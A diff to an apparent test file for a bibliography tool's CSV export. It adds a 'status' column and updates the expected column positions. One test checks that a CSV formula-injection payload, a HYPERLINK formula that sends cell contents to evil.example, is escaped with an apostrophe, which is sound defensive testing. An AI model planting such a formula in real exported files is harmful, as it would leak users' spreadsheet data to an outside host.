@@ -185,12 +185,12 @@ describe('export: bibliographies that keep the tags', () => {
 
   it('exports CSV for one claim and stance (full word or letter)', () => {
     const rows = readCsv(ok(['export', '--format', 'csv', '--claim', 'extinction-enhanced', '--stance', 's']).stdout);
-    expect(rows[0]).toEqual(['pmid', 'doi', 'title', 'authors', 'journal', 'year', 'retracted', 'tags', 'notes', 'url']);
+    expect(rows[0]).toEqual(['pmid', 'doi', 'title', 'authors', 'journal', 'year', 'retracted', 'status', 'tags', 'notes', 'url']);
     expect(rows.slice(1).map((r) => Number(r[0])).sort()).toEqual([CONSORTIUM, GUIDELINE].sort());
     const g = rows.find((r) => r[0] === String(GUIDELINE))!;
     expect(g[2]).toBe(shown.get(GUIDELINE)!.title);
-    expect(g[7]).toBe('C7:supports');
-    expect(g[8]).toBe('C7 supports (ann): fear & 50% {extinction} ~ x_y$ #1 ^ \\ "quoted"');
+    expect(g[8]).toBe('C7:supports');
+    expect(g[9]).toBe('C7 supports (ann): fear & 50% {extinction} ~ x_y$ #1 ^ \\ "quoted"');
     const q = readCsv(ok(['export', '--format', 'csv', '--claim', 'C7', '--stance', 'qualifies']).stdout);
     expect(q.slice(1).map((r) => Number(r[0]))).toEqual([INSILICO]);
   });
@@ -248,7 +248,7 @@ describe('export --format csv: formula injection', () => {
     expect(r.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
     const rows = readCsv(r.stdout);
     expect(rows).toHaveLength(2);
-    expect(rows[1]).toHaveLength(10);
+    expect(rows[1]).toHaveLength(11);
     const row = Object.fromEntries(rows[0]!.map((c, i) => [c, rows[1]![i]!]));
     expect(row).toMatchObject({
       pmid: String(pmid), title: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, journal: "'+1+2", doi: "'-2+3",
